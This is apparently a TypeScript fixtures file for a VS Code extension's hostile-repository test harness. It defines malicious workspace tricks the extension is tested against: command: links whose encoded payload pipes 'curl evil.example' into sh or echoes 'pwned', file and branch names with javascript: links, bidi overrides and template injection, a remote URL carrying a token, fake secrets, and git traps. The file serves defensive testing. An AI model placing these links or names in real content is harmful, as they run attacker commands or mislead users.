// What the hostile-repository tier's harness (test/runners/hostile.ts) and its in-editor phases agree on: the
// tricks a cloned repository plays, the names that must never leave the machine, and the secrets that must never
// be written or shown anywhere.

/** A link that would run a command with the attacker's arguments if the workbench rendered it. */
export const COMMAND_LINK =
  '[Open Settings](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil.example%7Csh%5Cn%22%7D)';

/** The folder of the multi-root workspace that plays the tricks (its .vscode/settings.json, file names, git). */
export const HOSTILE_FOLDER = 'hostile-repo';
/** The folder whose own settings make it `private`: none of its file names may leave the machine. */
export const PRIVATE_FOLDER = 'private-notes';
export const PRIVATE_FILE = 'acquisition-target-kq7v.md';
/** Excluded by the user's settings (`**\/user-excluded/**`); the hostile workspace sets `exclude: []`. */
export const USER_EXCLUDED_FOLDER = 'user-excluded';
export const USER_EXCLUDED_FILE = 'salaries-zx4w.ts';
/** Excluded by the user, then worked on before the exclusion reached the outbox: queued, then purged. */
export const LATE_EXCLUDED_FILE = 'late-excluded-mv8p.ts';

/** File names that try to become markup, links, reordered or extra lines. */
export const HOSTILE_FILES = [
  '[Verify your account](javascript:alert(1)).md',
  '**URGENT**.ts',
  'invoice\u202Egpj.ts',
  'two\nlines.ts',
  '{{DATE(2030-01-01T00:00:00Z,SHORT)}}.ts',
  `${COMMAND_LINK}.ts`,
];

/** A branch name and a remote URL with link syntax, a bidi override and a credential in them. */
export const HOSTILE_BRANCH = 'main[Click](command:workbench.action.quit)\u202Eevil';
export const REMOTE_SECRET = 'ghp_REMOTEcredential9x8y7z';
export const HOSTILE_REMOTE = `https://deploy:${REMOTE_SECRET}@github.com/acme/[repo](command:workbench.action.quit).git`;

/** Secret shapes the echoing server adds to what it echoes (beside the request's own Authorization header). */
export const ECHO_SECRETS = [
  'SECRETcookie77',
  'SECRETmsal77',
  'SECRETcode77',
  'SECRETverifier77',
  'SECRETassertion77',
  'SECRETpassword77',
];
export const ECHO_EXTRA = ` Cookie: sid=${ECHO_SECRETS[0]}; theme=dark {"secret":"${ECHO_SECRETS[1]}"} ?code=${ECHO_SECRETS[2]}&code_verifier=${ECHO_SECRETS[3]}&client_assertion=${ECHO_SECRETS[4]} {"password":"${ECHO_SECRETS[5]}"}`;

/** A glob whose naive matching is exponential in the path's depth. */
export const PATHOLOGICAL_GLOB = '**/**/**/**/**/**/**/**/**/**/x';
/** The depth of the folder that meets it. */
export const DEEP_PATH_SEGMENTS = 28;

/** The display name the workbench shows as the source of the extension's notifications. */
export const NOTIFICATION_SOURCE = 'Activity Feed';

/** Written into the workspace's card templates; must never reach Graph. */
export const WORKSPACE_TEMPLATE_MARKER = 'WSTEMPLATE-9k2';

/** Worked on in the first window at `private`, left queued, and published by the second window at `full`. */
export const PRIVATE_FILE_FOR_SECOND_WINDOW = 'merger-memo-pw5j.md';
/** A file of the hostile folder whose path, workspace and branch the privacy floor withholds. */
export const FLOOR_FILE = 'floor-check-r2d2.ts';

/** The name a cloned `.code-workspace` gives the hostile folder: a command link, shown wherever the folder is named. */
export const LINKED_FOLDER_LABEL = 'Keep my privacy level';
export const LINKED_FOLDER_NAME = `[${LINKED_FOLDER_LABEL}](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22echo%20pwned%5Cn%22%7D)`;

/** Folders of the second window whose .git leads somewhere it must not: each name says where. */
export const GIT_TRAPS = ['git-head-zero', 'git-head-fifo', 'git-gitdir-zero', 'git-commondir-zero', 'git-ref-outside'];
/** The commit the outside file pretends to be: it must never be published. */
export const OUTSIDE_COMMIT = '0badc0de'.repeat(5);

/**
 * The handshake that makes sure the harness reads the privacy question from the workbench's DOM (toasts hide and the
 * notification center is a virtualized list, more so on a busy machine): the in-editor test writes the first file
 * once the question was asked and the notification center is open; the harness writes the second once it read it.
 */
export const PRIVACY_QUESTION_ASKED = 'privacy-question.asked';
export const PRIVACY_QUESTION_SEEN = 'privacy-question.seen';
/** How the question begins to say what it is about (src/privacy/questions.vscode.ts). */
export const PRIVACY_QUESTION_TEXT = 'ask for the privacy level';
